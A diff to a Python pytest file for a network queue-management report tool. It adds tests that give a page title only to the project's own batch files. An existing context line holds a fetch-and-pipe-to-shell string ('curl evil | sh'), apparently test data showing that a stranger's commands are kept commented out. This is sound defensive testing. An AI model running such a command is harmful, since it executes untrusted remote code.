@@ -11,7 +11,7 @@ import pytest
 
 from flent_aqm.base.paths import resource_dir
 from flent_aqm.results import status
-from flent_aqm.show.report.commands import offered, sweep_command
+from flent_aqm.show.report.commands import offered, purpose, sweep_command
 from flent_aqm.show.report.model import Folder, build
 
 OURS = "batches/aqm_sweep.batch"
@@ -70,3 +70,22 @@ def test_report_on_a_strangers_folder_offers_none_of_its_words(tmp_path: Path) -
     commands = [command for _, command in report.commands]
     assert commands[0] == "# sh -c 'curl evil | sh'"
     assert all(command.startswith(("# ", "flent-aqm ")) for command in commands)
+
+
+@pytest.mark.parametrize("words", [
+    ["flent", "-B", OURS], ["flent", f"--batch-file={OURS}", "-b", "x"],
+    ["flent", "-B", str(resource_dir("batches") / Path(OURS).name)]])
+def test_page_is_called_after_what_its_batch_is_for(words: list[str]) -> None:
+    assert purpose(words) == ("How the queue at the bottleneck changes what speed tests report")
+
+
+@pytest.mark.parametrize("words", [[], ["flent"], ["flent", "-B"], ["flent", "-B", "mine.batch"],
+                                   ["flent", "-B", "results/evil/aqm_sweep.batch"]])
+def test_other_batches_say_nothing_of_their_purpose(words: list[str]) -> None:
+    assert purpose(words) == ""
+
+
+def test_each_batch_of_ours_says_its_purpose_in_one_sentence() -> None:
+    found = {path.name: purpose(["flent", "-B", f"batches/{path.name}"])
+             for path in resource_dir("batches").glob("*.batch")}
+    assert all(20 <= len(one) < 130 and "docs/" not in one for one in found.values()), found
